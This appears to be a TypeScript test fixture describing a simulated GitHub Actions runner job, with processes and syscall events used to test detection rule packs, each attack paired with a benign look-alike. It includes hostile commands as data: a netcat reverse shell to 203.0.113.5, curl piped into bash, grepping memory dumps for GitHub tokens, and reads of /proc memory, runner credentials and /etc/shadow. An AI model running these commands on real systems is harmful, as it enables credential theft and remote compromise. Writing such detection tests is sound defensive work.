// A GitHub Actions job, described for the capture writer: the runner's process tree, steps doing the
// attacks the rule packs look for, and benign look-alikes next to each. Shared by the rule-pack tests.
import type { CaptureDescriptionInput } from '../../../src/scap/writer/index.ts';

export const CONTAINER = 'c0ffee'.padEnd(64, '0');
export const WS = '/home/runner/work/repo/repo';
export const TEMP = '/home/runner/work/_temp';

export const job: CaptureDescriptionInput = {
  containers: [{ id: CONTAINER, name: 'postgres', image: 'docker.io/library/postgres:16', imageRepository: 'docker.io/library/postgres', imageTag: '16' }],
  processes: [
    { pid: 1, ppid: 0, comm: 'systemd', exepath: '/usr/lib/systemd/systemd' },
    { pid: 50, ppid: 1, comm: 'Runner.Listener', exepath: '/home/runner/runners/2.320.0/bin/Runner.Listener' },
    { pid: 100, ppid: 50, comm: 'Runner.Worker', exepath: '/home/runner/runners/2.320.0/bin/Runner.Worker' },
    { pid: 200, ppid: 100, comm: 'bash', exepath: '/usr/bin/bash', args: ['-e', `${TEMP}/step.sh`], cwd: `${WS}/`, uid: 1001 },
    { pid: 210, ppid: 200, comm: 'node', exepath: '/usr/bin/node', args: ['/usr/bin/npm', 'install'], cwd: `${WS}/`, uid: 1001 },
    { pid: 220, ppid: 210, comm: 'node', exepath: '/usr/bin/node', args: ['postinstall.js'], cwd: `${WS}/`, uid: 1001 },
    { pid: 230, ppid: 200, comm: 'python3', exepath: '/usr/bin/python3.12', args: ['exploit.py'], cwd: `${WS}/`, uid: 1001 },
    { pid: 240, ppid: 200, comm: 'ps', exepath: '/usr/bin/ps', args: ['e'], uid: 1001 },
    { pid: 250, ppid: 200, comm: 'gdb', exepath: '/usr/bin/gdb', args: ['-p', '100'], uid: 1001 },
    { pid: 260, ppid: 200, comm: 'git', exepath: '/usr/bin/git', args: ['fetch'], cwd: `${WS}/`, uid: 1001 },
    { pid: 270, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 271, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 272, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 273, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 274, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 275, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 276, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 277, ppid: 200, comm: 'bash', exepath: '/usr/bin/bash', uid: 1001 },
    { pid: 280, ppid: 200, comm: 'cat', exepath: '/usr/bin/cat', uid: 1001 },
    { pid: 290, ppid: 200, comm: 'perl', exepath: '/usr/bin/perl', args: ['-e', 'use IO::Socket'], uid: 1001 },
    { pid: 291, ppid: 200, comm: 'python3', exepath: '/usr/bin/python3.12', args: ['-m', 'pip', 'install', 'requests'], uid: 1001 },
    { pid: 292, ppid: 200, comm: 'curl', exepath: '/usr/bin/curl', args: ['-sS', 'https://api.github.com'], uid: 1001 },
    { pid: 295, ppid: 200, comm: 'sed', exepath: '/usr/bin/sed', args: ['-i', 's/a/b/', 'src/main.c'], cwd: `${WS}/`, uid: 1001 },
    { pid: 296, ppid: 200, comm: 'docker', exepath: '/usr/bin/docker', args: ['ps'], uid: 1001 },
    { pid: 300, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-jar', '/usr/share/jenkins/jenkins.war'] },
    { pid: 301, ppid: 300, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 302, ppid: 300, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 310, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-cp', '/opt/sonarqube/lib/sonar-application.jar', 'org.sonar.application.App'] },
    { pid: 311, ppid: 310, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 320, ppid: 1, comm: 'java', exepath: '/opt/java/bin/java', args: ['-jar', 'gradle-daemon.jar'] },
    { pid: 321, ppid: 320, comm: 'java', exepath: '/opt/java/bin/java' },
    { pid: 400, ppid: 1, comm: 'postgres', exepath: '/usr/lib/postgresql/bin/postgres', containerId: CONTAINER, uid: 999 },
    { pid: 410, ppid: 1, comm: 'cat', exepath: '/usr/bin/cat' },
  ],
  events: [
    // Source Code Overwrite (disabled by default)
    { pid: 295, type: 'open', path: `${WS}/src/main.c`, flags: ['O_WRONLY', 'O_TRUNC'] },
    { pid: 295, type: 'open', path: `${WS}/node_modules/x/index.js`, flags: ['O_WRONLY'] },
    { pid: 100, type: 'open', path: `${TEMP}/step2.sh`, flags: ['O_WRONLY', 'O_CREAT'] },
    { pid: 280, type: 'open', path: `${WS}/src/util.c`, flags: ['O_RDONLY'] },
    // Possible Workflow File Overwrite
    { pid: 230, type: 'open', path: `${WS}/.github/workflows/ci.yml`, flags: ['O_WRONLY', 'O_TRUNC'] },
    { pid: 280, type: 'open', path: `${WS}/.github/workflows/release.yml`, flags: ['O_RDONLY'] },
    // Git Pushing to Repository
    { pid: 270, type: 'exec', exepath: '/usr/bin/git', args: ['push', 'origin', 'HEAD:main'] },
    { pid: 271, type: 'exec', exepath: '/usr/bin/git', args: ['pull', '--rebase'] },
    // Environment / memory of others (tj-actions/changed-files read Runner.Worker's memory)
    { pid: 230, type: 'open', path: '/proc/100/environ' },
    { pid: 230, type: 'open', path: '/proc/self/environ' },
    { pid: 240, type: 'open', path: '/proc/100/environ' },
    { pid: 230, type: 'open', path: '/proc/100/mem' },
    { pid: 250, type: 'open', path: '/proc/100/mem' },
    // GitHub token in the checkout's git config
    { pid: 220, type: 'open', path: `${WS}/.git/config` },
    { pid: 230, type: 'open', path: `${TEMP}/git-credentials-1f2e3d.config` },
    { pid: 260, type: 'open', path: `${WS}/.git/config` },
    // Grep for tokens
    { pid: 272, type: 'exec', exepath: '/usr/bin/grep', args: ['-rao', 'ghs_[A-Za-z0-9]*', '/tmp/dump'] },
    { pid: 273, type: 'exec', exepath: '/usr/bin/grep', args: ['-r', 'TODO', 'src'] },
    // Runner file commands
    { pid: 220, type: 'open', path: `${TEMP}/_runner_file_commands/set_env_0a1b`, flags: ['O_WRONLY', 'O_APPEND'] },
    { pid: 200, type: 'open', path: `${TEMP}/_runner_file_commands/set_output_0a1b`, flags: ['O_WRONLY', 'O_APPEND'] },
    { pid: 100, type: 'open', path: `${TEMP}/_runner_file_commands/add_path_0a1b`, flags: ['O_WRONLY', 'O_CREAT'] },
    // Runner credential files
    { pid: 280, type: 'open', path: '/home/runner/runners/2.320.0/.credentials' },
    { pid: 50, type: 'open', path: '/home/runner/runners/2.320.0/.credentials_rsaparams' },
    // Downloader piped into a shell
    { pid: 274, type: 'exec', exepath: '/usr/bin/sh', args: [] },
    { pid: 275, type: 'exec', exepath: '/usr/bin/bash', args: ['-c', 'curl -fsSL https://get.example.sh | bash'] },
    { pid: 276, type: 'exec', exepath: '/usr/bin/bash', args: ['/tmp/setup.sh'] },
    { pid: 277, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'echo hello'] },
    // Reverse shell (a shell connecting out) and interpreters
    { pid: 200, type: 'connect', local: { ip: '10.1.0.4', port: 40100 }, remote: { ip: '203.0.113.5', port: 4444 } },
    { pid: 200, type: 'connect', local: { ip: '127.0.0.1', port: 40101 }, remote: { ip: '127.0.0.1', port: 8080 } },
    { pid: 290, type: 'connect', local: { ip: '10.1.0.4', port: 40102 }, remote: { ip: '198.51.100.7', port: 443 } },
    { pid: 291, type: 'connect', local: { ip: '10.1.0.4', port: 40103 }, remote: { ip: '151.101.0.223', port: 443 } },
    { pid: 292, type: 'connect', local: { ip: '10.1.0.4', port: 40104 }, remote: { ip: '140.82.112.5', port: 443 } },
    // Docker socket opened as a file by a non-client and by the docker CLI
    { pid: 230, type: 'open', path: '/var/run/docker.sock', flags: ['O_RDWR'] },
    { pid: 296, type: 'open', path: '/var/run/docker.sock', flags: ['O_RDWR'] },
    // Jenkins / SonarQube children
    { pid: 301, type: 'exec', exepath: '/usr/bin/nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] },
    { pid: 302, type: 'exec', exepath: '/usr/bin/git', args: ['fetch'] },
    { pid: 311, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'id'] },
    { pid: 321, type: 'exec', exepath: '/usr/bin/sh', args: ['-c', 'gradle build'] },
    // Container reading sensitive files
    { pid: 400, type: 'open', path: '/etc/shadow' },
    { pid: 400, type: 'open', path: '/root/.ssh/id_rsa' },
    { pid: 400, type: 'open', path: '/etc/passwd' },
    { pid: 410, type: 'open', path: '/etc/shadow' },
  ],
};

